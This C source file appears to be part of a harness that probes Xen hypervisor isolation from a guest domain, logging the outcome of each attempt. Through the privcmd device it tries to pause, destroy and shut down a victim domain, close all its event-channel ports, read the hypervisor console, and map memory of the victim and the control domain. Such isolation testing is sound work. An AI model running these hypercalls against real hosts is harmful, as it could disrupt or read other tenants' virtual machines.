#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attacker.h"

/* The kernel's device for hypercalls (xen/privcmd.h). */
struct hypercall {
  uint64_t number, arguments[5];
};
struct map_batch {
  unsigned count;
  uint16_t domain;
  uint64_t address;
  const uint64_t *frames;
  int *errors;
};
#define HYPERCALL _IOC(_IOC_NONE, 'P', 0, sizeof(struct hypercall))
#define MAP_BATCH _IOC(_IOC_NONE, 'P', 4, sizeof(struct map_batch))

/* Hypercalls and commands of Xen 4.17 by their numbers. */
enum {
  MEMORY_OP = 12,
  XEN_VERSION = 17,
  CONSOLE_IO = 18,
  GRANT_TABLE_OP = 20,
  SCHED_OP = 29,
  EVENT_CHANNEL_OP = 32,
  SYSCTL = 35,
  DOMCTL = 36
};
#define CONTROL_VERSION 0x15 /* of both domctl and sysctl */
#define DOMID_SELF 0x7ff0
#define PAGE 4096

static int device;
/* What the hypervisor reads and writes. */
static union {
  unsigned char bytes[PAGE];
  uint32_t words[PAGE / 4];
  uint16_t halves[PAGE / 2];
} buffer __attribute__((aligned(PAGE)));

static long call(unsigned number, uint64_t first, uint64_t second, uint64_t third) {
  struct hypercall call = {number, {first, second, third, 0, 0}};
  return ioctl(device, HYPERCALL, &call);
}

static void clear(void) { memset(&buffer, 0, sizeof buffer); }

/* struct xen_domctl: command, version, domain, and what belongs to the command. */
static void try_domctl(const char *what, uint32_t command, unsigned domain) {
  clear();
  buffer.words[0] = command;
  buffer.words[1] = CONTROL_VERSION;
  buffer.halves[4] = (uint16_t)domain;
  answer(what, "%s", outcome(call(DOMCTL, (uintptr_t)&buffer, 0, 0)));
}

static void try_sysctl(const char *what, uint32_t command) {
  clear();
  buffer.words[0] = command;
  buffer.words[1] = CONTROL_VERSION;
  answer(what, "%s", outcome(call(SYSCTL, (uintptr_t)&buffer, 0, 0)));
}

/* EVTCHNOP_*: a domain, and what belongs to the command. */
static void try_channel(const char *what, uint32_t command, unsigned domain, unsigned second) {
  clear();
  buffer.halves[0] = (uint16_t)domain;
  if (command == 6) buffer.halves[1] = (uint16_t)second;
  else buffer.words[1] = second;
  answer(what, "%s", outcome(call(EVENT_CHANNEL_OP, command, (uintptr_t)&buffer, 0)));
}

/* GNTTABOP_query_size answers in a status of its own, after two numbers. */
static void try_grant_table(const char *what, unsigned domain) {
  clear();
  buffer.halves[0] = (uint16_t)domain;
  long done = call(GRANT_TABLE_OP, 6, (uintptr_t)&buffer, 1);
  if (done < 0) answer(what, "%s", outcome(done));
  else answer(what, "status %d", (int16_t)buffer.halves[6]);
}

/* XENMEM_current_reservation. */
static void try_memory(const char *what, unsigned domain) {
  clear();
  buffer.halves[0] = (uint16_t)domain;
  answer(what, "%s", outcome(call(MEMORY_OP, 3, (uintptr_t)&buffer, 0)));
}

/* Maps frames of a domain, of which the first few hundred are memory: the kernel asks Xen for each. */
static void try_foreign_memory(const char *what, unsigned domain) {
  const uint64_t frame = 0x100;
  int error = 0;
  void *place = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, device, 0);
  if (place == MAP_FAILED) {
    answer(what, "mmap %s", outcome(-1));
    return;
  }
  struct map_batch map = {1, (uint16_t)domain, (uintptr_t)place, &frame, &error};
  long done = ioctl(device, MAP_BATCH, &map);
  if (done >= 0 && error != 0) {
    errno = -error;
    done = -1;
  }
  answer(what, "%s", outcome(done));
  munmap(place, PAGE);
}

void attack_hypervisor(const struct target *target) {
  device = open("/dev/xen/privcmd", O_RDWR | O_CLOEXEC);
  answer("the device for hypercalls", "%s", outcome(device));
  if (device < 0) return;
  clear();
  mlock(&buffer, sizeof buffer);
  long version = call(XEN_VERSION, 0, 0, 0);
  answer("ask for the version", "%ld.%ld", version >> 16, version & 0xffff);
  try_memory("count its own memory", DOMID_SELF);
  try_memory("count the victim's memory", target->victim);
  try_grant_table("the size of its own grant table", DOMID_SELF);
  try_grant_table("the size of the victim's grant table", target->victim);
  try_channel("the state of a port of its own", 5, DOMID_SELF, 1);
  try_channel("the state of a port of the victim", 5, target->victim, 1);
  try_channel("make a port for itself in the victim", 6, target->victim, DOMID_SELF);
  try_channel("close all ports of the victim", 10, target->victim, 0);
  try_domctl("domctl getdomaininfo of the victim", 5, target->victim);
  try_domctl("domctl getdomaininfo of itself", 5, target->own);
  try_domctl("domctl pausedomain of the victim", 3, target->victim);
  try_domctl("domctl destroydomain of the victim", 2, target->victim);
  try_domctl("domctl createdomain", 1, 0);
  try_sysctl("sysctl physinfo", 3);
  try_sysctl("sysctl getdomaininfolist", 6);
  try_sysctl("sysctl readconsole", 1);
  clear();
  answer("read the hypervisor's console", "%s", outcome(call(CONSOLE_IO, 1, 16, (uintptr_t)&buffer)));
  clear();
  buffer.halves[0] = (uint16_t)target->victim;
  answer("shut the victim down", "%s", outcome(call(SCHED_OP, 4, (uintptr_t)&buffer, 0)));
  try_foreign_memory("map memory of the victim", target->victim);
  try_foreign_memory("map memory of the control domain", 0);
  close(device);
}
